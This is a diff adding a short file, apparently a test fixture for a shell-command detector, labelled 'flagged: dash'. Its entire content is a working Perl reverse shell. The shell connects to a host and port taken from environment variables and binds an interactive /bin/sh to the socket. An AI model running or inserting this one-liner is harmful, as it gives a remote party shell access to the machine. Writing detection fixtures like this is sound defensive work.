@@ -1,0 +1,6 @@
+# flagged: dash
+timeout 0.2 perl -MSocket -e '
+  socket(S, PF_INET, SOCK_STREAM, getprotobyname("tcp"));
+  connect(S, sockaddr_in($ENV{RG_TCP_PORT}, inet_aton($ENV{RG_TCP_HOST}))) or die;
+  open(STDIN, ">&S"); open(STDOUT, ">&S"); open(STDERR, ">&S");
+  exec("/bin/sh -i");'
